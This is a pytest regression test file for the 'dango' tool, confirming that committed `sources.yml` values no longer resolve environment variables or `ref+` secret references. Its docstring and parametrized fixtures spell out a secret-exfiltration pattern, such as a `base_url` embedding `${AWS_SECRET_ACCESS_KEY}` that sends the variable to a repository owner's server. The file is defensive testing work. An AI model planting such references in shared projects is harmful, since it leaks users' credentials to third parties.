"""A cloned repository cannot fill its committed settings from the user's environment or
secret stores.

`.dango/sources.yml` is committed. Its values went through the same resolution as those of
`.dlt/secrets.toml`, so `base_url: https://theirs/${AWS_SECRET_ACCESS_KEY}` (or a `ref+`
store reference) in a cloned project sent the user's variable or stored secret to the
repository's server on `dango sync`. A reference there is now refused with one sentence,
and values of sources.yml are used as written.
"""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler

import pytest

from tests.conftest import snapshot
from tests.servers.local_http import serve

CANARY = "exfil-canary-7Qm2Zr9Xw"  # dango:allow


class Recorder(BaseHTTPRequestHandler):
    paths: list[str] = []

    def do_GET(self):  # noqa: N802
        type(self).paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b"[]")

    def log_message(self, *args):
        pass


@pytest.mark.parametrize("setting", [
    "base_url: {url}/${{LEAKED_VAR}}",
    "base_url: {url}/\n    resources: [items, 'ref+file://../leaked.txt']",
    "base_url: {url}/\n    resources: 'items_${{LEAKED_VAR:-x}}'",
])
def test_a_reference_in_sources_yml_is_refused_and_nothing_is_sent(dango, project_dir, setting):
    (project_dir.parent / "leaked.txt").write_text(CANARY)
    Recorder.paths = []
    with serve(Recorder) as url:
        text = setting.format(url=url)
        if "resources" not in text:
            text += "\n    resources: items"
        (project_dir / ".dango/sources.yml").write_text(
            f"sources:\n  - name: api\n    type: rest_api\n    auth_type: none\n    {text}\n")
        before = snapshot(project_dir)
        for command in (["sync"], ["config", "show"], ["validate"], ["source", "test", "api"]):
            result = dango(*command, env_extra={"LEAKED_VAR": CANARY})
            assert result.code == 2, (command, result)
            assert ".dango/sources.yml:" in result.err and "holds a ${VAR} or ref+ reference" in result.err
            assert "SOURCES__API__" in result.err and CANARY not in result.output
        assert Recorder.paths == []
    assert snapshot(project_dir) == before


def test_source_add_refuses_a_reference_for_a_committed_field(dango, project_dir):
    before = snapshot(project_dir)
    result = dango("source", "add", "rest_api", "--name", "api", "--no-input", "--set",
                   "base_url=https://api.example.com/${HOME}", "--set", "resources=items")
    assert result.code == 2, result
    assert "base_url of source 'api' holds a ${VAR} or ref+ reference" in result.err
    assert "Nothing was changed." in result.err
    assert snapshot(project_dir) == before


def test_committed_values_resolve_as_written(project_dir, monkeypatch):
    """Below the check at load: a value of sources.yml is never interpolated or fetched."""
    from dango.credentials import Resolver
    from dango.project import load_project
    from dango.sources import Source

    monkeypatch.setenv("LEAKED_VAR", CANARY)
    source = Source("api", "rest_api", True, {"base_url": "https://api.example.com/${LEAKED_VAR}",
                                              "resources": ["ref+file://x"], "auth_type": "none"})
    config = Resolver(load_project(project_dir)).resolved_config(source)
    assert config["base_url"] == "https://api.example.com/${LEAKED_VAR}"
    assert config["resources"] == ["ref+file://x"]
